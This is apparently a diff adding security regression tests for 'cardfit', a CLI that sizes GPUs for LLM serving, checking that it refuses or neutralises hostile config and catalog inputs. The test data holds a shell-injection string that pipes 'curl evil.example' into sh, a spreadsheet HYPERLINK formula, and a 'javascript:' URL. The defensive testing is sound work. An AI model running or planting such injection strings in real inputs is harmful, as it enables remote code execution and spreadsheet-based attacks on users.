@@ -1,0 +1,119 @@
+// Issue 32: what cardfit prints stays what it says. A hostile config.json, a vendor overlay with a
+// spreadsheet formula for a name, a source address of another scheme: refused or neutralised,
+// never run. The bad inputs of the issue's probe, end to end through the CLI.
+import test from 'node:test';
+import assert from 'node:assert/strict';
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { run, json, fixture } from './cli_helpers.mjs';
+
+const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'cardfit-safe-'));
+const write = (name, value) => {
+  const p = path.join(tmp, name);
+  fs.writeFileSync(p, typeof value === 'string' ? value : JSON.stringify(value));
+  return p;
+};
+const config = JSON.parse(fs.readFileSync(fixture('catalog-qwen2.5-7b-config.json'), 'utf8'));
+
+test('a config.json whose _name_or_path is a shell command is refused, the field named', () => {
+  const p = write('evil-config.json', { ...config, _name_or_path: 'meta-llama/x $(touch /tmp/p) ; curl -s evil.example|sh #' });
+  const r = run('estimate', '--config', p, '--gpu', 'a100-80g', '--json');
+  assert.equal(r.status, 1, r.stdout + r.stderr);
+  const e = json(r).errors[0];
+  assert.equal(e.field, 'config');
+  assert.match(e.message, /_name_or_path: must be a Hugging Face repository id/);
+});
+
+test('a local path in _name_or_path is no repository: the command names none', () => {
+  const p = write('local-config.json', { ...config, _name_or_path: '/root/autodl-tmp/Qwen2.5-7B' });
+  const r = run('estimate', '--config', p, '--gpu', 'a100-80g', '--json');
+  assert.equal(r.status, 0, r.stderr);
+  const launch = json(r).gpus[0].launch[0];
+  assert.deepEqual(launch.argv.slice(0, 3), ['vllm', 'serve', 'custom']);
+});
+
+test('every launch command splits into its argv (the JSON says the words)', () => {
+  for (const engine of ['vllm', 'sglang', 'llama.cpp', 'tensorrt-llm', 'lmdeploy']) {
+    const r = run('estimate', '--gpu', 'a100-80g', '--engine', engine, '--precision', engine === 'llama.cpp' ? 'q4_k_m' : 'bf16', '--json');
+    assert.equal(r.status, 0, r.stderr);
+    const c = json(r).gpus[0].launch[0];
+    assert.equal(c.file, null);
+    assert.equal(c.text, c.argv.join(' '), engine);  // plain words: the text is the words, unquoted
+  }
+});
+
+const overlay = (offer, platform) => ({
+  schema: 'cardfit.catalog/1',
+  sources: [{ id: 'evil-2026', title: 'x', publisher: 'x', date: '2026-11', kind: 'price-page' }],
+  platforms: [{ id: 'yiwan', replaces: true, source: 'evil-2026', name_en: platform, name_zh: platform }],
+  offers: [{ id: 'yiwan-t4-card', replaces: true, source: 'evil-2026', as_of: '2026-11', prices: [{ term: 'monthly', low: offer, high: offer }] }],
+});
+
+test('a platform named as a spreadsheet formula stays text in CSV and Markdown', () => {
+  const p = write('formula.json', overlay(850, '=HYPERLINK("http://evil.example","x")'));
+  const csv = run('plan', '--catalog', p, '--platform', 'yiwan', '--precision', 'int4', '--format', 'csv');
+  assert.equal(csv.status, 0, csv.stderr);
+  assert.ok(!/(^|,)=HYPERLINK/m.test(csv.stdout), csv.stdout);
+  assert.match(csv.stdout, /"'=HYPERLINK\(""http:\/\/evil\.example"",""x""\)"/);
+  assert.match(csv.stdout, /evil-2026/);  // the price's source
+  assert.match(csv.stdout, /formula\.json/);  // and the file it came from
+  const md = run('plan', '--catalog', p, '--platform', 'yiwan', '--precision', 'int4', '--format', 'markdown');
+  assert.equal(md.status, 0, md.stderr);
+  const rows = md.stdout.trim().split('\n');
+  assert.ok(rows.every((r) => r.split(/(?<!\\)\|/).length === rows[0].split('|').length), md.stdout);  // no cell added
+});
+
+test('an option from an overlay is marked in the table and the JSON', () => {
+  const p = write('vendor.json', overlay(850, 'Yiwan'));
+  const r = run('plan', '--catalog', p, '--platform', 'yiwan', '--precision', 'int4', '--json');
+  assert.equal(r.status, 0, r.stderr);
+  const o = json(r).options.find((x) => x.offer === 'yiwan-t4-card');
+  assert.match(o.overlay, /vendor\.json$/);  // the file as it was named on the command line
+  assert.equal(o.source, 'evil-2026');
+  // The platform's name came from the overlay too: every option on it is marked.
+  assert.ok(json(r).options.every((x) => /vendor\.json$/.test(x.overlay)));
+  const bundled = json(run('plan', '--platform', 'yiwan', '--precision', 'int4', '--json'));
+  assert.ok(bundled.options.every((x) => x.overlay === null && x.source.length > 0));
+  const t = run('plan', '--catalog', p, '--platform', 'yiwan', '--precision', 'int4', '--lang', 'zh');
+  assert.match(t.stdout, /yiwan \(来自 vendor\.json\)/);  // the file's name, not its folders
+});
+
+test('an overlay that changes a bundled offer without saying so is refused', () => {
+  const o = overlay(1, 'Yiwan');
+  delete o.offers[0].replaces;
+  const r = run('catalog', '--validate', write('silent.json', o));
+  assert.equal(r.status, 1);
+  assert.match(r.stderr, /offers\[0\]\.replaces: changes offer 'yiwan-t4-card'/);
+  const tiny = overlay(1e-320, 'Yiwan');
+  const t = run('catalog', '--validate', write('tiny.json', tiny));
+  assert.equal(t.status, 1);
+  assert.match(t.stderr, /prices\[0\]\.low/);
+});
+
+test('a source address of another scheme is refused', () => {
+  const o = { schema: 'cardfit.catalog/1', sources: [{ id: 'x-2026', title: 'x', publisher: 'x', date: '2026', kind: 'price-page', url: 'javascript:alert(1)' }] };
+  const r = run('catalog', '--validate', write('url.json', o));
+  assert.equal(r.status, 1);
+  assert.match(r.stderr, /sources\[0\]\.url: must be a web address/);
+});
+
+test('a file over the 16 MB limit is refused by name, not read whole', () => {
+  const p = path.join(tmp, 'huge.json');
+  fs.writeFileSync(p, '{"schema": "cardfit.catalog/1", "comment": "' + 'x'.repeat(17 * 1024 * 1024) + '"}');
+  const r = run('catalog', '--validate', p);
+  assert.equal(r.status, 1);
+  assert.match(r.stderr, /over 16 MB/);
+  const c = run('estimate', '--config', p);
+  assert.equal(c.status, 1);
+  assert.match(c.stderr, /over 16 MB/);
+});
+
+test('results too large to compute exit 1', () => {
+  const r = run('plan', '--task', 'full', '--tokens', '1e15', '--mfu', '1e-300', '--gpu', 'h100-sxm');
+  assert.equal(r.status, 1);
+  assert.match(r.stderr, /mfu: must be between 1% and 100%/);
+  const h = run('plan', '--host-bandwidth', '1e-300', '--engine', 'llama.cpp', '--precision', 'q4_k_m');
+  assert.equal(h.status, 1);
+  assert.match(h.stderr, /host_bandwidth: must be between 1 and/);
+});
